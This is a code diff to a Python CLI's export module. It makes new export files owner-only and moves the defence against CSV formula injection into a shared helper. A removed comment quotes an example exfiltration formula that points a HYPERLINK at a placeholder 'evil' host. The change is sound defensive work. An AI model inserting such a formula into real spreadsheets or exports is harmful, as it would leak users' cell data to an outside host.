@@ -31,7 +31,9 @@ def write_export(run, path: Path, scrub=None) -> None:
     if not name.endswith(FORMATS):
         raise FactcliError(f"{path}: unsupported output format (use {', '.join(FORMATS)})")
     try:
-        path.parent.mkdir(parents=True, exist_ok=True)
+        from factcli.settings import private_file
+
+        private_file(path)  # owner-only (0600) when new; an existing file keeps its mode
         if name.endswith((".json", ".jsonl", ".yaml", ".yml", ".txt")):
             write_document(run, path)
         elif name.endswith("junit.xml"):
@@ -91,19 +93,11 @@ def failed_assertion_types(r: EvalResult) -> list[str]:
 # ---------------------------------------------------------------- csv
 
 
-# A cell a spreadsheet would run as a formula (an output `=HYPERLINK("http://evil/?"&A1)`, a var
-# `@SUM(…)`): written with a leading ' so that it shows as text (OWASP's CSV injection advice).
-# Numbers (-0.5) stay numbers. FACTCLI_CSV_RAW=1 writes every cell as it is.
-_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
-
-
 def _csv_cell(value):
-    if isinstance(value, str) and value.startswith(_FORMULA_START):
-        try:
-            float(value)
-        except ValueError:
-            return "'" + value
-    return value
+    """sources.neutral_cell (the CSV formula rule); FACTCLI_CSV_RAW=1 writes every cell as it is."""
+    from factcli.sources import neutral_cell
+
+    return neutral_cell(value)
 
 
 def write_csv(run, path: Path) -> None:
